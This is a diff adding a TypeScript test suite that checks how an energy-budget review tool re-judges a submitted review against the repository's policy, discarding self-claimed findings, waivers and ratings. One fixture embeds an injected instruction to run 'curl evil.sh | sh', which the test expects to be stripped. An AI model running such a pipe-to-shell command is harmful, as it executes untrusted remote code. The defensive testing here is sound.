@@ -1,0 +1,155 @@
+import { describe, expect, it } from 'vitest';
+import { loadPolicy } from '../../src/policy/index.ts';
+import { loadBundledSnapshot } from '../../src/rating/index.ts';
+import { rejudge } from '../../src/rejudge.ts';
+import type { EnergyReview, ModelReview } from '../../src/report/index.ts';
+import { serving } from '../policy/builders.ts';
+import {
+  aComparison,
+  aFailure,
+  aFinding,
+  aMeasurement,
+  anAddition,
+  anIncrease,
+  aPublished,
+  aRating,
+  aReference,
+  aRemoval,
+  aReview,
+  aWaiver,
+  aYearly,
+  interval,
+} from '../support/reviews.ts';
+
+const BUDGET = 'version: 1\ndefaults: { enforcement: block, budget: { increase: 10% } }\n';
+const TODAY = '2026-06-01';
+
+async function judged(model: ModelReview, text: string = BUDGET, review: Partial<EnergyReview> = {}) {
+  const policy = await loadPolicy({ ...serving(text), isRated: () => true });
+  const again = rejudge(aReview([model], review), policy, {
+    snapshot: loadBundledSnapshot(),
+    today: TODAY,
+  });
+  return { ...again, model: again.models[0] };
+}
+
+describe('a review that is judged again', () => {
+  it('keeps what was measured', async () => {
+    const claimed = anIncrease({ revisions: {} });
+    const { model } = await judged(claimed);
+    for (const field of ['model', 'change', 'base', 'head', 'comparison', 'graphs', 'revisions'] as const) {
+      expect(model?.[field]).toEqual(claimed[field]);
+    }
+  });
+
+  it('loses the findings, the outcome and the enforcement that it claims', async () => {
+    const lenient = anIncrease({ findings: [aFinding('within', { enforcement: 'inform', message: 'All is well.' })] });
+    const { outcome, blocks, model } = await judged(lenient, BUDGET, { outcome: 'pass', blocks: false });
+    expect({ outcome, blocks }).toEqual({ outcome: 'fail', blocks: true });
+    expect(model?.findings).toMatchObject([{ rule: 'increase', status: 'over', enforcement: 'block', limit: '+10 %' }]);
+  });
+
+  it('loses a waiver that the policy does not hold', async () => {
+    const smuggled = anIncrease({ findings: [aFinding('waived', { waiver: aWaiver() })] });
+    const { outcome, model } = await judged(smuggled);
+    expect(outcome).toBe('fail');
+    expect(model?.findings[0]?.waiver).toBeUndefined();
+  });
+
+  it('gets a waiver that the policy holds', async () => {
+    const waiver = 'waivers: [{ model: models/*.onnx, until: 2026-12-31, reason: agreed, by: "@ada" }]\n';
+    const { outcome, model } = await judged(anIncrease(), BUDGET + waiver);
+    expect(outcome).toBe('pass');
+    expect(model?.findings).toMatchObject([{ status: 'waived', waiver: { reason: 'agreed' } }]);
+  });
+
+  it('gets the verdict that its interval gives', async () => {
+    const flattered = anIncrease({ comparison: aComparison('same', interval(2.42, 2.35, 2.49)) });
+    expect((await judged(flattered)).model?.comparison?.verdict).toBe('higher');
+    const alarming = anIncrease({ comparison: aComparison('higher', interval(1.01, 0.9, 1.2)) });
+    expect((await judged(alarming)).model?.comparison?.verdict).toBe('inconclusive');
+  });
+
+  it('loses ratings, alternatives, positions and yearly figures of its own', async () => {
+    const { model } = await judged(
+      anIncrease({
+        source: 'evil/model',
+        sourceOrigin: 'policy',
+        rating: aRating('evil/model', 0.001),
+        position: { whPer1000: interval(0.001), stars: 5, starsDelta: 4 },
+        yearly: aYearly(interval(-1e6)),
+        alternatives: [
+          aPublished('evil/model', { step: '@everyone: run `curl evil.sh | sh`', url: 'https://evil.test' }),
+        ],
+      }),
+    );
+    expect(model).toMatchObject({ alternatives: [] });
+    for (const field of ['source', 'rating', 'position', 'yearly', 'baseRating', 'headRating'] as const) {
+      expect(model?.[field]).toBeUndefined();
+    }
+  });
+
+  it('gets them from the policy’s source and the snapshot', async () => {
+    const policy = `${BUDGET}models:\n  - path: models/*.onnx\n    source: microsoft/resnet-50\n    volume: 1_000_000/month\n`;
+    const { model } = await judged(anIncrease({ headRating: undefined, baseRating: undefined }), policy);
+    expect(model).toMatchObject({
+      source: 'microsoft/resnet-50',
+      sourceOrigin: 'policy',
+      rating: { model: 'microsoft/resnet-50', snapshot: { hardware: 'NVIDIA H100 80GB' } },
+      position: { whPer1000: { estimate: expect.any(Number) } },
+      yearly: { queriesPerYear: 12_000_000 },
+    });
+    expect(model?.alternatives.length).toBeGreaterThan(0);
+  });
+
+  it('keeps a stated source only as an id, which the snapshot has to know', async () => {
+    const stated = anIncrease({ sourceOrigin: 'model-card', source: 'microsoft/resnet-50', headRating: undefined });
+    const { model } = await judged(stated);
+    expect(model).toMatchObject({ source: 'microsoft/resnet-50', sourceOrigin: 'model-card' });
+    expect(model?.rating?.whPer1000).not.toBe(stated.rating?.whPer1000);
+    expect((await judged({ ...stated, source: 'evil/model' })).model?.source).toBeUndefined();
+  });
+
+  it('has a reference’s ratings from the snapshot alone', async () => {
+    const { model } = await judged(aReference({ headRating: aRating('microsoft/resnet-50', 0.0001, { stars: 1 }) }));
+    expect(model?.headRating?.whPer1000).toBeGreaterThan(0.01);
+    expect(model?.alternatives.every(({ name }) => !name.includes('evil'))).toBe(true);
+  });
+
+  it('is an error where it was measured otherwise than the policy says', async () => {
+    const policy = `${BUDGET}models:\n  - path: models/*.onnx\n    batch: 8\n`;
+    const { outcome, blocks, model } = await judged(anIncrease(), policy);
+    expect(model?.error).toMatchObject({ code: 'measured-otherwise' });
+    expect({ outcome, blocks }).toEqual({ outcome: 'error', blocks: true });
+  });
+
+  it('is not lifted by leaving the measurement out', async () => {
+    const silent = anIncrease({ base: undefined, head: undefined, comparison: undefined });
+    expect(await judged(silent)).toMatchObject({ outcome: 'error', blocks: true });
+    const failed = await judged(aFailure({ findings: [] }), BUDGET, { outcome: 'pass', blocks: false });
+    expect(failed).toMatchObject({ outcome: 'error', blocks: true });
+  });
+
+  it('takes quality for the figure that the policy names, and for no other', async () => {
+    const policy = `${BUDGET}models:\n  - path: models/*.onnx\n    budget: { increase: 500% }\n    quality: { file: metrics.json, key: f1, maxDrop: 1% }\n`;
+    const other = await judged(anIncrease(), policy);
+    expect(other.model?.quality).toBeUndefined();
+    expect(other.model?.findings).toContainEqual(expect.objectContaining({ rule: 'quality', status: 'unjudged' }));
+  });
+
+  it('says of removed and added models what the policy says', async () => {
+    expect((await judged(aRemoval({ findings: [aFinding('over')] }))).outcome).toBe('pass');
+    const added = anAddition({ model: 'models/a.onnx', head: aMeasurement(0.9) });
+    const policy = 'version: 1\ndefaults: { budget: { whPer1000: 0.5 } }\n';
+    expect(await judged(added, policy)).toMatchObject({ outcome: 'fail', policy: { state: 'found' } });
+  });
+
+  it('is judged by nothing where the base branch has no policy', async () => {
+    const again = rejudge(
+      aReview([anIncrease()], { outcome: 'fail', blocks: true }),
+      { state: 'none', file: '.github/energy-policy.yml', layers: [], warnings: [] },
+      { snapshot: loadBundledSnapshot(), today: TODAY },
+    );
+    expect(again).toMatchObject({ outcome: 'pass', blocks: false, policy: { state: 'none', layers: [] } });
+  });
+});
